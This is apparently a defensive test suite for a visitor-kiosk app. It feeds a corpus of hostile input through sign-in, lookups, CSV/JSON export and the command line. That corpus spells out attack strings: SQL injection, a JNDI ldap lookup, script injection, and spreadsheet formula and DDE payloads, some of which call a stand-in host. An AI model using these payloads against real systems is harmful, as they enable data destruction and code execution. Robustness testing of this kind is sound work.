"""Hostile input through every service a visitor or a staff member can type into, and through
the export: SQL injection, format strings, right-to-left overrides, zero-width characters,
control characters, 10,000-character lines, and hypothesis's arbitrary text. Nothing raises
anything but the documented refusal (FieldError) or "not found", and what is stored comes
back unchanged through the CSV and JSON exports, read with csv and json."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
from contextlib import closing
from datetime import UTC, date, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kiosk.bootstrap import Core
from kiosk.domain.access_log import EXPORT_COLUMNS
from kiosk.domain.events import Hook
from kiosk.domain.visit import (
    BadgeAlreadyUsed,
    FieldError,
    NameMatch,
    NoVisitNamed,
    SignInForm,
    UnknownBadge,
    UnknownVisit,
    normalise_text,
)
from kiosk.export.visits import ExportFormat
from kiosk.visits.service import Visits

HOSTILE = [
    "Robert'); DROP TABLE visits;--",
    "' OR '1'='1",
    '" OR ""="',
    "%s%s%s%n%x",
    "{0} {name} {__class__}",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://example.invalid","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\u202eevil\u202c right-to-left override",
    "zero\u200bwidth\u200cjoin\u200dchars\ufeff",
    "tab\there\r\nnew line\x00nul\x1bescape",
    "\u0000",
    "   ",
    "Ünïcödé Ø æ ß ñ 中文 عربى עברית",
    "x" * 10_000,
    "a, b; c | d \\ e / f",
    "\ud7ff\ue000\U0001f600",
]


# Wider than any sign-in a test makes.
EVER = (datetime.min.replace(tzinfo=UTC), datetime.max.replace(tzinfo=UTC))


def store(core: Core, text: str, visits: Visits | None = None) -> str | None:
    """Sign a visitor in with `text` in every field (by the core's sign-in unless `visits` is
    given); the stored name, or None if refused."""
    form = SignInForm(text, text, text, text)
    try:
        visit = (visits or core.visits).sign_in(form, core.notices.notice("en")).visit
    except FieldError:
        return None
    assert visit.visitor_name == normalise_text(text)
    return visit.visitor_name


def delete_every_visit(core: Core) -> None:
    with core.store.transaction() as db:
        db.visits.delete([visit.visit_id for visit in db.visits.signed_in_between(*EVER)])


def exported(core: Core) -> tuple[list[dict[str, str]], list[dict[str, object]]]:
    out_csv, out_json = io.StringIO(newline=""), io.StringIO()
    first, last = date(2000, 1, 1), date(2100, 12, 31)
    core.exports.visits(first, last, ExportFormat.CSV, out_csv)
    core.exports.visits(first, last, ExportFormat.JSON, out_json)
    rows = list(csv.DictReader(io.StringIO(out_csv.getvalue(), newline="")))
    return rows, json.loads(out_json.getvalue())


def unguard(cell: str) -> str:
    """A CSV cell as stored: the export's formula guard (a leading ') taken off again."""
    return cell[1:] if cell[:2] in {f"'{c}" for c in "=+-@\t\r"} else cell


def assert_round_trip(core: Core) -> None:
    """What the database file holds comes back unchanged through both exports."""
    with closing(sqlite3.connect(core.paths.database)) as db:
        stored = [
            dict(zip(EXPORT_COLUMNS, row, strict=True))
            for row in db.execute(
                f"SELECT {', '.join(EXPORT_COLUMNS)} FROM visits ORDER BY signed_in_at"
            )
        ]
    rows, records = exported(core)
    assert len(rows) == len(records) == len(stored)
    for row, record, original in zip(rows, records, stored, strict=True):
        for column in ("visitor_name", "company", "host", "purpose"):
            assert unguard(row[column]) == original[column]
            assert record[column] == original[column]
        assert int(row["visit_id"]) == record["visit_id"] == original["visit_id"]


def test_the_hostile_corpus_is_stored_as_typed_or_refused_and_exports_back(core: Core) -> None:
    kept = [name for text in HOSTILE if (name := store(core, text)) is not None]
    assert len(kept) >= len(HOSTILE) - 4  # only empty, blank and over-long input is refused
    with closing(sqlite3.connect(core.paths.database)) as db:
        assert db.execute("SELECT count(*) FROM visits").fetchone()[0] == len(kept)
    assert_round_trip(core)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_lookup_takes_hostile_text(core: Core, text: str) -> None:
    store(core, "Ann Smith")
    with pytest.raises((UnknownBadge, BadgeAlreadyUsed, UnknownVisit)):
        core.visits.sign_out_by_badge(text)
    with pytest.raises((UnknownBadge, BadgeAlreadyUsed, UnknownVisit)):
        core.reception.sign_out_badge(text)
    assert core.visits.match_name(text) is NameMatch.NONE
    with pytest.raises(NoVisitNamed):
        core.visits.sign_out_named(text)
    shown = core.visits.search_present(text)
    assert shown == [] or normalise_text(text) == ""  # an empty search lists everyone
    assert core.rights.find(text) == []


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(st.text(max_size=120), min_size=1, max_size=4))
def test_any_text_is_stored_or_refused_and_exports_back(core: Core, texts: list[str]) -> None:
    # Signed in with no badge printed (nobody is told of the sign-ins), so that hundreds of
    # examples run in seconds; what is stored is the same.
    visits = Visits(core.store, Hook("visit_signed_in"), core.config.site.kiosk_id)
    delete_every_visit(core)
    for text in texts:
        store(core, text, visits)
    assert_round_trip(core)


ARG = st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=40)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    command=st.sampled_from(["export", "present", "demo", "purge", "check", "evacuation"]),
    options=st.lists(
        st.tuples(
            st.sampled_from(["--from", "--to", "--format", "--visits", "--days", "--out", "--x"]),
            ARG,
        ),
        max_size=4,
    ),
    extra=st.lists(ARG, max_size=2),
)
def test_any_command_line_ends_in_a_clear_exit(
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
    command: str,
    options: list[tuple[str, str]],
    extra: list[str],
) -> None:
    """Whatever is typed after a command: exit 0, or an exit code with one clear line on
    stderr, never a traceback and never "unexpected error"."""
    from kiosk.cli.main import main

    data = tmp_path_factory.mktemp("cli")
    argv = ["--data-dir", str(data), command]
    for option, value in options:
        if option == "--out":
            value = str(data / f"out-{value.replace('/', '_')}"[:200])
        argv += [option, value]
    argv += extra
    umask = os.umask(0o077)  # main sets it; the rest of the session keeps its own
    try:
        with pytest.raises(SystemExit) as ended:
            main(argv)
    finally:
        os.umask(umask)
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert "unexpected error" not in err
    if ended.value.code not in (0, None):
        assert err.strip(), f"exit {ended.value.code} without a word for {argv}"
